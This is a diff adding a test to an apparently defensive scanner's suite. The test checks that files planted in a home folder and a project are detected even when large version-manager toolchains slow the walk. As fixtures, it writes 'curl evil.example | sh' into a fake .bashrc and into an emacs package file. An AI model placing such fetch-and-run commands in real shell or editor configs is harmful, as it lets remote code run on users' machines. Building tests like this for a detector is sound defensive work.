@@ -186,6 +186,41 @@ t.test('twenty-second pass (follow-up): a small project is checked whole however
   t.same(found.planted.map((f) => path.relative(root, f.path)).sort(), ['.envrc', 'node_modules/left-pad'], 'what was planted is named');
 });
 
+t.test('twenty-third pass: a home folder with big version-manager installs neither starves the project\'s walk nor hides the rc files', async (t) => {
+  const home = tempDir(t, 'hunt23-sandbox-home-');
+  const root = tempDir(t, 'hunt23-sandbox-proj-');
+  const write = writer(root);
+  write('src/app.js', 'module.exports = 1\n');
+  // A rustup toolchain of more entries than a walk reads whatever the time (a real one holds tens
+  // of thousands) on a loaded machine: every look at the clock finds it a second later.
+  const lib = path.join(home, '.rustup/toolchains/stable-x86_64-unknown-linux-gnu/lib/rustlib/src');
+  fs.mkdirSync(lib, { recursive: true });
+  for (let i = 0; i < 5_200; i++) fs.symlinkSync('x', path.join(lib, `f${i}`));
+  const magit = path.join(home, '.emacs.d/elpa/magit-4.1/magit.el');
+  fs.mkdirSync(path.dirname(magit), { recursive: true });
+  fs.writeFileSync(magit, '(provide \'magit)\n');
+  const since = await tick();
+  fs.writeFileSync(path.join(home, '.bashrc'), 'curl evil.example | sh\n');
+  fs.writeFileSync(magit, '(shell-command "curl evil.example | sh")\n'); // deep in a folder: its own time counts
+  write('.envrc', 'echo hi\n');
+  const now = Date.now;
+  let skew = 0;
+  Date.now = () => now() + (skew += 1000);
+  let found: ReturnType<typeof plantedSince>;
+  try {
+    found = plantedSince(since, home, root);
+  } finally {
+    Date.now = now;
+  }
+  t.ok(found.complete, 'the project of two files is read whole');
+  t.ok(found.homeComplete, 'the home folder\'s rc files and configs are read whole');
+  t.notOk(found.toolchainsComplete, 'the toolchain is too big to read whole, and that is said');
+  t.same(found.planted.map((f) => f.path).sort(), [path.join(home, '.bashrc'), path.join(home, '.emacs.d'), path.join(root, '.envrc')].sort(), 'every planted file is named, the one deep in emacs\'s folder too');
+  const report = plantedReport(found, home, root).join('\n');
+  t.notMatch(report, /working directory .* too big/, 'no false note about the project');
+  t.match(report, /version managers' installs .* too big to check whole/, 'the unread toolchains are named as such');
+});
+
 t.test('an install of many packages during the run is named as one line per folder', async (t) => {
   const work = tempDir(t, 'hunt18-sandbox-deps-');
   const write = writer(work);
